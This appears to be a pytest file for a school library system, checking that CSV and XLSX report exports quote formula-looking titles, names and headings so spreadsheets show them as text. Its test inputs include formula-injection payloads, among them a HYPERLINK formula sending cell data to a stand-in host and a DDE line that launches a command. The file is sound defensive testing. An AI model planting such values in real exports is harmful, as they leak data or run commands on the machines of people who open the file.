"""A title or a name that looks like a spreadsheet formula never runs when an export is opened."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import date, datetime

import pytest
from openpyxl import load_workbook
from sqlalchemy import select

from lms_desktop.catalog.models import BibRecord
from lms_desktop.circulation.models import Patron
from lms_desktop.db.unit_of_work import Database
from lms_desktop.reports.common import ReportParams
from lms_desktop.reports.document import ReportDocument, Table
from lms_desktop.reports.export import render_csv, render_xlsx
from lms_desktop.reports.service import render_report
from lms_desktop.school.settings import SCHOOL_NAME, set_setting
from tests.reports.school import TODAY, SmallSchool

NASTY = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
]


def test_a_csv_shelf_list_keeps_formula_looking_titles_as_text(
    database: Database, school: SmallSchool
) -> None:
    with database.unit_of_work() as uow:
        records = uow.session.scalars(select(BibRecord).order_by(BibRecord.id)).all()
        for record, text in zip(records, NASTY, strict=False):
            record.title = text
        uow.commit()
    with database.unit_of_work() as uow:
        rendered = render_report(uow, "shelf-list", ReportParams(TODAY, TODAY), "csv")
    rows = list(csv.reader(io.StringIO(rendered.data.decode("utf-8-sig"))))
    titles = {row[1] for row in rows[1:]}
    for text in NASTY:
        assert "'" + text in titles  # a leading quote: every spreadsheet shows it as text
        assert text not in titles
    assert "Dog Man" in titles  # ordinary titles untouched
    assert all(not cell.startswith(("=", "+", "-", "@", "\t")) for row in rows for cell in row)


def test_an_xlsx_holds_list_keeps_a_formula_looking_name_exactly_as_text(
    database: Database, school: SmallSchool
) -> None:
    with database.unit_of_work() as uow:
        emma = uow.session.scalar(select(Patron).where(Patron.first_name == "Emma"))
        assert emma is not None
        emma.last_name = "=1+1"
        set_setting(uow, SCHOOL_NAME, "@School")
        uow.commit()
    with database.unit_of_work() as uow:
        rendered = render_report(uow, "holds", ReportParams(TODAY, TODAY, today=TODAY), "xlsx")
    workbook = load_workbook(io.BytesIO(rendered.data))
    cells = [c for sheet in workbook for row in sheet.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    name = next(c for c in cells if c.value == "=1+1, Emma")
    assert name.data_type == "s" and name.quotePrefix  # shown as written, kept text on edit
    assert workbook["Report"]["A1"].value == "@School"
    with zipfile.ZipFile(io.BytesIO(rendered.data)) as archive:
        for part in archive.namelist():
            if part.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(part)  # no formula anywhere in the file


@pytest.mark.parametrize("text", NASTY)
def test_every_part_of_an_export_is_neutralised(text: str) -> None:
    """Headings, column names and the school's name too, in both formats."""
    doc = ReportDocument(
        name="x",
        title=text,
        school_name=text,
        start=date(2026, 11, 1),
        end=date(2026, 11, 30),
        generated_at=datetime(2026, 11, 30, 12, 0),
        blocks=(
            Table(text, (text, "Count"), ((text, -3), ("fine", 4))),
            Table("Second", ("A",), (("b",),)),
        ),
        filters=(("Grade", text),),
    )
    rows = list(csv.reader(io.StringIO(render_csv(doc).decode("utf-8-sig"))))
    written = [cell for row in rows for cell in row]
    assert text not in written and written.count("'" + text) == 5
    assert "-3" in written  # numbers are numbers, even negative ones
    workbook = load_workbook(io.BytesIO(render_xlsx(doc)))
    cells = [c for sheet in workbook for row in sheet.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert sum(1 for c in cells if c.value == text) == 5
    assert any(c.value == -3 and c.data_type == "n" for c in cells)
